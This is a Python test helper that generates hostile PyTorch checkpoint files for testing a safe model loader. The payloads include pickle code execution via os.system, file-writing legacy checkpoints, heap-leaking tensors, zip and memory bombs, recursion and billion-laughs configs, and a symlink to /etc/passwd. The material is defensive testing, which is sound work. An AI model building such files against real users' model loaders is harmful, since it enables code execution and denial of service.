"""Generators of hostile checkpoint files, one function per attack class.

Each function writes its file(s) under a given folder and returns the path to
hand to modelport. Nothing here is shipped as a binary: the tests build every
payload at run time. ``python tests/hostile/payloads.py DIR`` writes them all
to DIR for manual use (every file there is harmful to load with plain
``torch.load``/``pickle``: never load them outside modelport).

The pickles are written by a ``pickle.Pickler`` whose objects' ``__reduce__``
return exactly the calls an attacker would put in the file; torch-format
containers (zip and legacy) are assembled around them by hand so that the
declared storage sizes can lie.
"""

from __future__ import annotations

import argparse
import collections
import io
import os
import pickle
import shutil
import struct
import sys
import zipfile
from pathlib import Path
from typing import Any

import torch

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_MODEL = ROOT / "assets" / "default-model"


# ---------------------------------------------------------------------------
# pickle building blocks


class Call:
    """Pickles as ``func(*args)``: a REDUCE of any global."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


class Storage:
    """A persistent id (``('storage', type, key, location, numel)``) with any numel."""

    def __init__(self, key: str, numel: int, storage_type: Any = None, legacy_view: bool = False) -> None:
        self.pid: tuple[Any, ...] = ("storage", storage_type or torch.FloatStorage, key, "cpu", numel)
        if legacy_view:
            self.pid += (None,)


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj: Any) -> Any:
        return obj.pid if isinstance(obj, Storage) else None


def dumps(obj: Any) -> bytes:
    buf = io.BytesIO()
    _Pickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def tensor(storage: Storage, shape: tuple[int, ...]) -> Call:
    """``_rebuild_tensor_v2(storage, 0, shape, contiguous strides, ...)``."""
    strides, acc = [], 1
    for d in reversed(shape):
        strides.insert(0, acc)
        acc *= d
    return Call(torch._utils._rebuild_tensor_v2, storage, 0, tuple(shape), tuple(strides), False,
                collections.OrderedDict())


def write_torch_zip(path: Path, data_pkl: bytes, records: dict[str, bytes],
                    compress_pkl: bool = False) -> Path:
    """A torch zip checkpoint with this ``data.pkl`` and these ``data/<key>`` records."""
    prefix = "archive"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl,
                    compress_type=zipfile.ZIP_DEFLATED if compress_pkl else zipfile.ZIP_STORED)
        zf.writestr(f"{prefix}/byteorder", "little")
        for key, data in records.items():
            zf.writestr(f"{prefix}/data/{key}", data)
        zf.writestr(f"{prefix}/version", "3\n")
    return path


def write_legacy(path: Path, main_pickle: bytes, storage_keys: list[str], storages: list[bytes]) -> Path:
    """torch's pre-zip format: magic, protocol, sys info, the object pickle,
    the storage key list, then each storage as <int64 numel><bytes>."""
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    sys_info = {"protocol_version": PROTOCOL_VERSION, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    with open(path, "wb") as f:
        for obj in (MAGIC_NUMBER, PROTOCOL_VERSION, sys_info):
            pickle.dump(obj, f, protocol=2)
        f.write(main_pickle)
        pickle.dump(storage_keys, f, protocol=2)
        for data in storages:
            f.write(struct.pack("<q", len(data) // 4))
            f.write(data)
    return path


# ---------------------------------------------------------------------------
# a fairseq-looking folder around a hostile model.pt


def fairseq_folder(dest: Path, model_pt: bytes | Path | None = None) -> Path:
    """The embedded model's folder (dictionaries, codes) with ``model.pt`` replaced."""
    dest.mkdir(parents=True, exist_ok=True)
    for f in DEFAULT_MODEL.iterdir():
        if f.name != "model.pt" and f.is_file():
            shutil.copy(f, dest / f.name)
    if isinstance(model_pt, Path):
        shutil.copy(model_pt, dest / "model.pt")
    elif model_pt is not None:
        (dest / "model.pt").write_bytes(model_pt)
    return dest


def _default_state() -> dict[str, Any]:
    from modelport.converters.safe_pickle import safe_torch_load

    return safe_torch_load(DEFAULT_MODEL / "model.pt")


def default_with(dest: Path, **changes: Any) -> Path:
    """The embedded checkpoint re-saved with top-level or ``model`` entries changed
    (``model__<key with dots as __>`` addresses a weight)."""
    state = _default_state()
    state = {k: v for k, v in state.items() if k in ("model", "cfg", "args")}
    from modelport.converters.safe_pickle import to_plain

    state["cfg"] = to_plain(state["cfg"])
    state["args"] = None
    for key, value in changes.items():
        if key.startswith("model__"):
            state["model"][key[len("model__"):].replace("__", ".")] = value
        else:
            state[key] = value
    buf = io.BytesIO()
    torch.save(state, buf)
    return fairseq_folder(dest, buf.getvalue())


# ---------------------------------------------------------------------------
# the attacks


def exec_marker(dest: Path, marker: Path) -> Path:
    """model.pt whose pickle runs ``touch MARKER`` when fully unpickled."""
    state = {"model": {}, "args": Call(os.system, f"touch {marker}")}
    return fairseq_folder(dest, write_torch_zip(dest.parent / "exec.pt", dumps(state), {}))


def legacy_patch_writer(dest: Path, name: str = "pwned") -> Path:
    """Legacy checkpoint: BUILD sets ``dump_patches``/``__name__`` on the
    argparse.Namespace *class*, then a ``module`` persistent id makes torch
    write ``<name>.patch`` into the working directory."""
    p = bytearray(b"\x80\x02cargparse\nNamespace\nr\xe8\x03\x00\x00")  # memo 1000 = the class
    state = {"dump_patches": True, "__name__": name}
    p += b"N" + pickle.dumps(state, protocol=2)[2:-1] + b"\x86b"  # BUILD (None, slots) on the class
    p += b"0"  # POP the class
    p += b"(X\x06\x00\x00\x00modulej\xe8\x03\x00\x00" + pickle.dumps("a.py", protocol=2)[2:-1] \
        + pickle.dumps("class X:\n    evil = 1\n", protocol=2)[2:-1] + b"tQ"  # ('module', cls, file, src) BINPERSID
    p += b"."
    return fairseq_folder(dest, write_legacy(dest.parent / "legacy.pt", bytes(p), [], []))


def legacy_module_pid(dest: Path) -> Path:
    """Legacy checkpoint with a ``module`` persistent id alone (no BUILD)."""
    p = b"\x80\x02(X\x06\x00\x00\x00modulecargparse\nNamespace\nX\x04\x00\x00\x00a.pyX\x01\x00\x00\x00xtQ."
    return fairseq_folder(dest, write_legacy(dest.parent / "legacy_module.pt", p, [], []))


def build_on_class(dest: Path) -> Path:
    """zip checkpoint whose BUILD sets attributes on the argparse.Namespace class."""
    p = b"\x80\x02cargparse\nNamespace\nN}X\x0c\x00\x00\x00dump_patches\x88s\x86b."
    return fairseq_folder(dest, write_torch_zip(dest.parent / "build.pt", p, {}))


def uninitialised_tensor(dest: Path, via_parameter: bool = False) -> Path:
    """The embedded model with one bias built as ``torch.Tensor(n)`` (heap memory)."""
    n = 128
    t: Any = Call(torch.Tensor, n)
    if via_parameter:
        t = Call(torch._utils._rebuild_parameter_with_state, t, False, collections.OrderedDict(), {})
    return _swap_weight(dest, "encoder.layers.0.fc2.bias", t, {})


def oversized_storage(dest: Path) -> Path:
    """A storage that declares far more elements than its record holds."""
    return _swap_weight(dest, "encoder.layers.0.fc2.bias", tensor(Storage("evil", 128), (128,)),
                        {"evil": b"\0" * 16})


def _swap_weight(dest: Path, name: str, value: Any, extra_records: dict[str, bytes]) -> Path:
    """The embedded checkpoint rewritten as a zip whose pickle holds ``value`` at ``name``."""
    from modelport.converters.safe_pickle import to_plain

    state = _default_state()
    records: dict[str, bytes] = dict(extra_records)
    model: dict[str, Any] = {}
    for i, (k, t) in enumerate(state["model"].items()):
        if k == name:
            model[k] = value
            continue
        t = t.detach().contiguous().float()
        records[str(i)] = t.numpy().tobytes()
        model[k] = tensor(Storage(str(i), t.numel()), tuple(t.shape))
    obj = {"model": model, "cfg": to_plain(state["cfg"]), "args": None}
    return fairseq_folder(dest, write_torch_zip(dest.parent / "swap.pt", dumps(obj), records))


def bytearray_bomb(dest: Path) -> Path:
    return fairseq_folder(dest, write_torch_zip(dest.parent / "ba.pt", dumps({"model": {}, "args": Call(
        bytearray, 3 * 10**9)}), {}))


def codec_lookup(dest: Path) -> Path:
    import _codecs

    return fairseq_folder(dest, write_torch_zip(dest.parent / "codec.pt", dumps({"model": {}, "args": Call(
        _codecs.encode, "x", "no-such-codec")}), {}))


def zip_bomb(dest: Path, inflated: int = 300 * 1024**2) -> Path:
    """data.pkl deflated: a few MB that inflate to ``inflated`` bytes (a pickle
    of ``None``, then pops and pushes), streamed so the test never holds it."""
    path = dest.parent / "bomb.pt"
    dest.parent.mkdir(parents=True, exist_ok=True)
    chunk = b"0N" * (1 << 19)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("archive/data.pkl", "w", force_zip64=True) as f:
            f.write(b"\x80\x02N")
            for _ in range((inflated - 4) // len(chunk)):
                f.write(chunk)
            f.write(b".")
        zf.writestr("archive/byteorder", "little", compress_type=zipfile.ZIP_STORED)
        zf.writestr("archive/version", "3\n", compress_type=zipfile.ZIP_STORED)
    return fairseq_folder(dest, path)


def _cfg_pickle(cfg_ops: bytes) -> bytes:
    """{'model': {}, 'cfg': <cfg_ops>} with cfg_ops leaving one object on the stack."""
    return b"\x80\x02}(X\x05\x00\x00\x00model}X\x03\x00\x00\x00cfg" + cfg_ops + b"u."


def deep_cfg(dest: Path, depth: int = 100_000) -> Path:
    """cfg nested ``depth`` lists deep (built without recursion by the pickle)."""
    ops = b"]" * depth + b"a" * (depth - 1)
    return fairseq_folder(dest, write_torch_zip(dest.parent / "deep.pt", _cfg_pickle(ops), {}))


def self_cfg(dest: Path) -> Path:
    """cfg is a dict that contains itself."""
    ops = b"}q\x00X\x04\x00\x00\x00selfh\x00s"
    return fairseq_folder(dest, write_torch_zip(dest.parent / "self.pt", _cfg_pickle(ops), {}))


def laughs_cfg(dest: Path, levels: int = 24) -> Path:
    """cfg of shared lists, each level two references to the one below (2**levels leaves)."""
    ops = bytearray(b"]q\x00K\x01a0")  # memo 0 = [1], popped
    for i in range(1, levels + 1):  # memo i = [memo i-1, memo i-1], popped
        ops += b"](h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"eq" + bytes([i]) + b"0"
    ops += b"h" + bytes([levels])
    return fairseq_folder(dest, write_torch_zip(dest.parent / "laughs.pt", _cfg_pickle(bytes(ops)), {}))


def many_layers(dest: Path, layers: int = 200_000) -> Path:
    """A checkpoint whose options claim far more layers than its weights hold."""
    from modelport.converters.safe_pickle import to_plain

    state = _default_state()
    cfg = to_plain(state["cfg"])
    cfg["model"]["encoder_layers"] = layers
    return default_with(dest, cfg=cfg)


def outside_symlink(dest: Path, target: str = "/etc/passwd") -> Path:
    """The embedded model whose ``bpecodes`` is a symlink to a file outside the folder."""
    fairseq_folder(dest, DEFAULT_MODEL / "model.pt")
    (dest / "bpecodes").unlink()
    (dest / "bpecodes").symlink_to(target)
    return dest


def nonfinite_weight(dest: Path, value: float = float("nan")) -> Path:
    state = _default_state()
    w = state["model"]["decoder.layers.0.fc1.weight"].clone()
    w[0, 0] = value
    return default_with(dest, model__decoder__layers__0__fc1__weight=w)


ALL = {
    "exec_marker": lambda d: exec_marker(d / "exec_marker", d / "MARKER"),
    "legacy_patch_writer": lambda d: legacy_patch_writer(d / "legacy_patch_writer"),
    "legacy_module_pid": lambda d: legacy_module_pid(d / "legacy_module_pid"),
    "build_on_class": lambda d: build_on_class(d / "build_on_class"),
    "uninitialised_tensor": lambda d: uninitialised_tensor(d / "uninitialised_tensor"),
    "uninitialised_parameter": lambda d: uninitialised_tensor(d / "uninitialised_parameter", True),
    "oversized_storage": lambda d: oversized_storage(d / "oversized_storage"),
    "bytearray_bomb": lambda d: bytearray_bomb(d / "bytearray_bomb"),
    "codec_lookup": lambda d: codec_lookup(d / "codec_lookup"),
    "zip_bomb": lambda d: zip_bomb(d / "zip_bomb"),
    "deep_cfg": lambda d: deep_cfg(d / "deep_cfg"),
    "self_cfg": lambda d: self_cfg(d / "self_cfg"),
    "laughs_cfg": lambda d: laughs_cfg(d / "laughs_cfg"),
    "many_layers": lambda d: many_layers(d / "many_layers"),
    "outside_symlink": lambda d: outside_symlink(d / "outside_symlink"),
    "nan_weight": lambda d: nonfinite_weight(d / "nan_weight"),
}


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path, help="folder to write every payload into")
    out = parser.parse_args().out
    out.mkdir(parents=True, exist_ok=True)
    for name, make in ALL.items():
        print(name, make(out), file=sys.stderr)
